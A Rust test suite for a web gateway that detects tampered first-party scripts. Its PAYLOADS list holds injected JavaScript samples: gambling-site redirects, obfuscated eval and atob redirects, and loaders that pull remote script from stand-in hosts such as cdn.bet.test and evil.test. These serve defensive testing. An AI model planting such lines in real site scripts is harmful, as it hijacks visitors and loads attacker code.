//! Attack suite for tampered first-party scripts that are not pinned (threat C5): a
//! redirect, a loader or a spam writer appended to (or prepended to, or decoded inside) the
//! site's own script, served under every script type (and as text/plain or octet-stream
//! under a `.js` path), plain or coded, in small chunks, never completes
//! its transfer, and `script.tampered` is written. Benign twins: the site's real scripts
//! (same-site navigation, analytics, a menu), a script allowed by its SHA-256, a script in
//! report mode and one past the review bound pass byte for byte.

use crate::common;

use bytes::Bytes;
use common::body::{chunked, chunks_of, compress, full, resp};
use common::gateway::{Gateway, Setup};
use http::Method;
use http_body_util::BodyExt;

/// A first-party library as a CMS theme ships it.
const LIBRARY: &str = "/*! theme v2.1 */\n(function($){'use strict';\
    var menu=document.querySelector('.menu');\
    if(menu){menu.addEventListener('click',function(e){menu.classList.toggle('open')})}\
    var sel=document.getElementById('lang');\
    if(sel){sel.onchange=function(){location.href='/'+this.value+'/trang-chu'}}\
    window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}\
    $.fn.slider=function(o){return this.each(function(){var i=0;setInterval(function(){i++},5000)})};\
    })(window.jQuery||{fn:{}});\n";

/// What attackers append or prepend.
const PAYLOADS: &[&str] = &[
    "window.location.replace('https://bet.test/');",
    "setTimeout(function(){top.location.href='https://nhacai.test/?r='+document.domain},3000);",
    "if(/google|bing|coccoc/i.test(document.referrer)){location='https://bet.test/'}",
    "var u=atob('aHR0cHM6Ly9iZXQudGVzdC8=');document.location.assign(u);",
    "var s=document.createElement('script');s.src='https://cdn.bet.test/x.js';document.head.appendChild(s);",
    "document.write('<script src=\"//evil.test/a.js\"><\\/script>');",
    "(function(l){l.href=window.name})(top.location);",
    "eval(String.fromCharCode(108,111,99,97,116,105,111,110,61,39,104,116,116,112,115,58,47,47,98,101,116,46,116,101,115,116,39));",
];

/// How the tampered file is served: (path, content type, coding).
const SERVINGS: &[(&str, Option<&str>, &str)] = &[
    (
        "/wp-content/themes/portal/js/main.js",
        Some("application/javascript"),
        "identity",
    ),
    (
        "/js/app.min.js",
        Some("text/javascript; charset=utf-8"),
        "gzip",
    ),
    (
        "/templates/portal/js/menu.js",
        Some("application/x-javascript"),
        "br",
    ),
    ("/static/js/vendor.js", Some("text/plain"), "identity"),
    ("/assets/app.mjs", Some("application/ecmascript"), "deflate"),
    ("/js/site.js", Some("application/octet-stream"), "identity"),
];

fn serve(h: &Gateway, path: &str, ctype: Option<&'static str>, coding: &'static str, body: String) {
    let packed = Bytes::from(compress(coding, body.as_bytes()));
    h.upstream.route(path, move || {
        let mut head = Vec::new();
        if let Some(t) = ctype {
            head.push(("content-type", t));
        }
        if coding != "identity" {
            head.push(("content-encoding", coding));
        }
        resp(200, &head, chunked(chunks_of(&packed, 700)))
    });
}

/// `dir/name.js` as `dir/name-tag.js` (the test upstream routes by path only).
fn variant(path: &str, tag: &str) -> String {
    let (stem, ext) = path.rsplit_once('.').unwrap();
    format!("{stem}-{tag}.{ext}")
}

/// Whether the transfer of `path` failed (no head, or a body that broke off).
async fn failed(h: &Gateway, path: &str) -> bool {
    match h
        .send(Method::GET, path, &[("accept-encoding", "identity")])
        .await
    {
        Err(_) => true,
        Ok(resp) => resp.into_body().collect().await.is_err(),
    }
}

#[tokio::test]
async fn tampered_first_party_scripts_never_complete() {
    let h = Setup::portal().start().await;
    let mut n = 0;
    let mut missed = Vec::new();
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let (base, ctype, coding) = SERVINGS[i % SERVINGS.len()];
        for (where_, body) in [
            ("appended", format!("{LIBRARY}{payload}\n")),
            ("prepended", format!("{payload}\n{LIBRARY}")),
        ] {
            let path = variant(base, &format!("{i}-{where_}"));
            serve(&h, &path, ctype, coding, body);
            n += 1;
            if !failed(&h, &path).await {
                missed.push(format!("{path} ({ctype:?}, {coding}): {payload}"));
            }
        }
    }
    assert!(
        missed.is_empty(),
        "completed:\n{}\n{:?}",
        missed.join("\n"),
        h.rules()
    );
    assert_eq!(h.events_of("script.tampered").len(), n, "{:?}", h.rules());
}

#[tokio::test]
async fn the_sites_own_scripts_pass_byte_for_byte() {
    let h = Setup::portal().start().await;
    for (i, &(path, ctype, coding)) in SERVINGS.iter().enumerate() {
        let path = variant(path, &format!("clean-{i}"));
        serve(&h, &path, ctype, coding, LIBRARY.to_string());
        let (parts, body) = h.body(&path, &[("accept-encoding", "identity")]).await;
        assert_eq!(parts.status, 200, "{path}");
        // Passed as it came, coding and all.
        assert_eq!(
            body,
            compress(coding, LIBRARY.as_bytes()),
            "{path}: changed"
        );
    }
    assert!(h.events_of("script.tampered").is_empty(), "{:?}", h.rules());
}

#[tokio::test]
async fn a_hashed_script_a_report_mode_site_and_an_oversized_script_pass() {
    use base64::Engine;
    use sha2::Digest;
    let tampered = format!("{LIBRARY}{}\n", PAYLOADS[0]);
    let digest = base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(&tampered));
    let lines = format!("[site.sanitize]\nscript_hashes = [\"sha256-{digest}\"]\n");
    let h = Setup::portal().site_lines(&lines).start().await;
    serve(
        &h,
        "/js/allowed.js",
        Some("application/javascript"),
        "identity",
        tampered.clone(),
    );
    let (_, body) = h.body("/js/allowed.js", &[]).await;
    assert_eq!(
        body,
        tampered.as_bytes(),
        "a script allowed by its hash changed"
    );

    let report = Setup::portal().mode("report").start().await;
    serve(
        &report,
        "/js/a.js",
        Some("application/javascript"),
        "identity",
        tampered.clone(),
    );
    let (_, body) = report.body("/js/a.js", &[]).await;
    assert_eq!(body, tampered.as_bytes(), "report mode changed the script");
    let events = report.events_of("script.tampered");
    assert_eq!(events.len(), 1, "{:?}", report.rules());
    assert_eq!(events[0].action, lachan::audit::Action::Reported);

    let small = Setup::portal()
        .site_lines("[site.sanitize]\nmax_inline_script = \"1KiB\"\n")
        .start()
        .await;
    let big = format!("{}{}\n", LIBRARY.repeat(4), PAYLOADS[0]);
    serve(
        &small,
        "/js/bundle.js",
        Some("application/javascript"),
        "identity",
        big.clone(),
    );
    let (_, body) = small.body("/js/bundle.js", &[]).await;
    assert_eq!(body, big.as_bytes(), "an unreviewed script changed");
    assert_eq!(
        small.events_of("script.unreviewed").len(),
        1,
        "{:?}",
        small.rules()
    );
}

#[tokio::test]
async fn other_types_are_not_reviewed() {
    let h = Setup::portal().start().await;
    let text = format!("{LIBRARY}{}\n", PAYLOADS[0]);
    for (path, ctype) in [
        ("/data/x.json", "application/json"),
        ("/docs/readme.txt", "text/plain"),
    ] {
        let body = text.clone();
        h.upstream.route(path, move || {
            resp(200, &[("content-type", ctype)], full(body.clone()))
        });
        let (_, got) = h.body(path, &[]).await;
        assert_eq!(got, text.as_bytes(), "{path}");
    }
    assert!(h.events_of("script.tampered").is_empty());
}
